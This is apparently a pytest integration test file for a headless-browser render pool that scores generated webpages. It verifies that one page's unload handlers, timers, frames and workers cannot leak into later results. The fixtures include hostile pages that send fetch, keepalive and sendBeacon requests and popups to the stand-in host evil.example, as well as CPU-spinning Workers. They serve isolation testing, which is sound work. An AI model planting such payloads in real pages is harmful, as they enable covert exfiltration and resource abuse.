"""One job never sees another's document: what a replaced document does while it unloads
(handlers, timers, frames, workers) reaches no later result, and nothing it started outlives
its job. Each check ran red before the pool blanked scripted pages and gated events on the
job's own commit."""

from __future__ import annotations

import asyncio
import os
import time
from urllib.parse import urlsplit

import numpy as np
import pytest

from designrl.render import RenderResult
from designrl.render.chromium import browser_pids
from designrl.render.png import decode_png
from designrl.render.sandbox import may_run_script
from designrl.tasks.webpage import WebpageReward

pytestmark = pytest.mark.integration

POOL_TIMEOUT_S = 5.0

# Throws and logs from every way a document can act while it is replaced, and asks for the
# network, popups and dialogs on the way out; a frame does the same.
HOSTILE = """<!DOCTYPE html><html><body><p>hostile</p><script>
const act = (tag) => {
  console.error(tag + '-console');
  fetch('http://evil.example/' + tag).catch(() => {});
  fetch('http://evil.example/keep-' + tag, {method: 'POST', body: 'x', keepalive: true})
    .catch(() => {});
  navigator.sendBeacon('http://evil.example/beacon-' + tag, 'x');
  try { window.open('http://evil.example/popup-' + tag); } catch (e) {}
};
for (const type of ['pagehide', 'unload', 'visibilitychange', 'beforeunload', 'freeze']) {
  addEventListener(type, () => { act(type); throw new Error(type + '-throw'); });
}
setInterval(() => { act('interval'); throw new Error('interval-throw'); }, 0);
setTimeout(function again() { act('timeout'); setTimeout(again, 1); }, 1);
const frame = document.createElement('iframe');
frame.srcdoc = "<script>addEventListener('pagehide', () => { console.error('frame-console');" +
  " throw new Error('frame-throw'); }); setInterval(() => console.error('frame-timer'), 0)<\\/script>";
document.body.appendChild(frame);
</script></body></html>"""
# The same, written without a script element.
HOSTILE_ATTRIBUTES = """<body onpagehide="console.error('attr-pagehide'); throw new Error('attr')"
  onunload="fetch('http://evil.example/attr-unload')"><p>attributes</p>
  <img src="x" onerror="setInterval(() => { console.error('attr-timer'); nope() }, 0)"></body>"""

INNOCENT = """<!DOCTYPE html><html lang="en"><head><title>Cafe</title></head>
<body style="font-family:sans-serif;margin:40px"><main><h1>Corner Cafe</h1>
<p>Fresh coffee and pastries every morning.</p><img src="rick.jpg" width="96" height="54">
<button onclick="document.getElementById('out').textContent = 'Thanks for ordering!'">
Order now</button><p id="out"></p><input placeholder="Your name" aria-label="name"></main>
</body></html>"""


def recorded(result: RenderResult) -> tuple:
    """Everything a result says about its page, apart from timing."""
    return (result.ok, result.error, result.page_errors, result.console_errors,
            result.blocked_requests, [urlsplit(u).path for u in result.served_requests],
            result.dialogs, result.popups, result.downloads, result.dom_nodes,
            [(b.text, b.bbox) for b in result.text_blocks], result.png)


def pixel_difference(expected: bytes, got: bytes) -> dict:
    """How two screenshots differ, for a failure message: sizes and the box that changed."""
    a, b = decode_png(expected), decode_png(got)
    if a.shape != b.shape:
        return {"sizes": (a.shape, b.shape)}
    rows, cols = np.nonzero((a != b).any(axis=2))
    if len(rows) == 0:
        return {}
    return {"changed_pixels": len(rows),
            "box": (int(cols.min()), int(rows.min()), int(cols.max()), int(rows.max()))}


def assert_same_pixels(alone: RenderResult, after: list[RenderResult], tmp_path) -> None:
    """Every ``after`` screenshot equals ``alone``'s; a difference is saved for a look."""
    differing = {}
    for i, result in enumerate(after):
        if result.png != alone.png:
            (tmp_path / f"after-{i}.png").write_bytes(result.png or b"")
            differing[i] = pixel_difference(alone.png, result.png or b"")
    if differing:
        (tmp_path / "alone.png").write_bytes(alone.png)
        raise AssertionError(f"screenshots differ from the page alone ({tmp_path}): {differing}")


def test_only_pages_that_can_act_alone_are_blanked():
    assert not may_run_script("<h1 style='color:red'>on = off</h1><p>onion=3</p>")
    for html in ("<script>1</script>", "<SCRIPT src=x>", "<img src=x onerror=f()>",
                 "<img/onerror=f()>", "<body onpagehide='x'>", "<iframe srcdoc='&lt;b'>",
                 "<object data='data:text/html,x'>", "<embed src=x>",
                 "<meta http-equiv='refresh' content='1'>", "<svg><set onbegin=f()></svg>"):
        assert may_run_script(html), html


@pytest.mark.parametrize("hostile", [HOSTILE, HOSTILE_ATTRIBUTES], ids=["script", "attributes"])
def test_a_replaced_document_never_reaches_the_next_result(runner, hostile):
    """Every page of the pool runs the hostile page, then the innocent one: each innocent
    result is the innocent page's result alone, to the byte of its screenshot."""
    pool = runner.pool

    async def rounds():
        alone = await pool.render(INNOCENT)
        after = []
        for _ in range(3):
            await asyncio.gather(*(pool.render(hostile) for _ in range(pool.size)))
            after += await asyncio.gather(*(pool.render(INNOCENT) for _ in range(pool.size)))
        return alone, after

    alone, after = runner.run(rounds())
    assert alone.ok and alone.page_errors == [] and alone.console_errors == []
    for result in after:
        assert recorded(result) == recorded(alone), (
            result.page_errors, result.console_errors, result.blocked_requests, result.popups)


def test_an_innocent_webpage_scores_the_same_after_a_hostile_one(runner):
    """The contamination repro of issue 17 (0.874 alone, 0.262 after a hostile page)."""
    reward = WebpageReward(runner.pool)
    size = runner.pool.size

    async def rounds():
        alone = await reward.score(INNOCENT)
        await asyncio.gather(*(reward.score(HOSTILE) for _ in range(size)))
        after = await asyncio.gather(*(reward.score(INNOCENT) for _ in range(size)))
        return alone, after

    alone, after = runner.run(rounds(), timeout=300)
    assert alone.error is None and alone.total > 0.5, alone.details
    for score in after:
        differs = {name: (value, alone.components.get(name))
                   for name, value in score.components.items()
                   if abs(value - alone.components.get(name, -1.0)) > 1e-9}
        whitespace = (score.details.get("static", {}).get("whitespace"),
                      alone.details.get("static", {}).get("whitespace"))
        assert abs(score.total - alone.total) <= 1e-9, (score.total, alone.total, differs,
                                                        whitespace)
        assert not differs, (differs, whitespace)


SPINNING_WORKERS = """<p>workers</p><script>
const spin = 'let n = 0; for (;;) { n++; }';
for (let i = 0; i < 2; i++) new Worker(URL.createObjectURL(new Blob([spin])));
new SharedWorker(URL.createObjectURL(new Blob(['onconnect = () => {}; ' + spin])));
</script>"""


def cpu_seconds(pids: list[int]) -> float:
    ticks = os.sysconf("SC_CLK_TCK")
    total = 0
    for pid in pids:
        try:
            with open(f"/proc/{pid}/stat") as stat:
                fields = stat.read().rsplit(")", 1)[1].split()
            total += int(fields[11]) + int(fields[12])
        except OSError:
            pass
    return total / ticks


def test_workers_end_with_their_job(runner):
    """Spinning Workers and a SharedWorker are gone once the job is over: no worker target
    is left in the browser and its processes sit idle."""
    pool = runner.pool
    handle = pool._handles[0]

    async def run_and_look():
        result = await pool.render(SPINNING_WORKERS)
        session = await handle.browser.new_browser_cdp_session()
        try:
            targets = (await session.send("Target.getTargets"))["targetInfos"]
        finally:
            await session.detach()
        return result, [t["type"] for t in targets]

    result, types = runner.run(run_and_look())
    assert result.ok, result.error
    assert not {"worker", "shared_worker"} & set(types), types
    pids = browser_pids(handle.marker)
    before = cpu_seconds(pids)
    time.sleep(1.0)
    assert cpu_seconds(pids) - before < 0.5  # a spinning worker alone would burn ~1 s


def test_a_page_someone_clicked_is_blanked_after_its_session(runner, tmp_path):
    """No script in the HTML, but a click runs some (a javascript: link): a page session's
    document is replaced once the session ends, so its timers cannot outlive it."""
    html = ("<a id=go href=\"javascript:setInterval(() => { console.error('late');"
            " window.open('http://evil.example/late'); }, 0)\">go</a>")
    assert not may_run_script(html)
    pool = runner.pool

    async def click_then_innocent():
        alone = await pool.render(INNOCENT)
        session = pool.page(html)
        async with session as page:
            await page.click("#go")
            await asyncio.sleep(0.2)
            slot = session._slot
        tree = await slot.cdp.send("Page.getFrameTree")  # the browser's word, not Playwright's
        url = tree["frameTree"]["frame"]["url"]
        after = await asyncio.gather(*(pool.render(INNOCENT) for _ in range(pool.size)))
        return session.events, url, alone, after

    events, url, alone, after = runner.run(click_then_innocent())
    assert "late" in events.console_errors  # the click did start the timer
    assert url == "about:blank"
    assert_same_pixels(alone, after, tmp_path)
    for result in after:
        assert recorded(result) == recorded(alone), (result.console_errors, result.popups)


HOVERABLE = ("<style>button { width: 300px; height: 200px; background: #eee; }"
             "button:hover { background: #c00; }</style><button>press</button>")


def test_the_mouse_a_session_left_does_not_hover_the_next_page(runner, tmp_path):
    """A session's caller leaves the mouse over the page; the next job on that page must
    not be drawn hovered."""
    pool = runner.pool

    async def hover_then_render():
        alone = await pool.render(HOVERABLE)

        async def hover():
            async with pool.page(HOVERABLE) as page:
                await page.hover("button")

        await asyncio.gather(*(hover() for _ in range(pool.size)))
        after = await asyncio.gather(*(pool.render(HOVERABLE) for _ in range(pool.size)))
        return alone, after

    alone, after = runner.run(hover_then_render())
    assert alone.ok
    assert_same_pixels(alone, after, tmp_path)
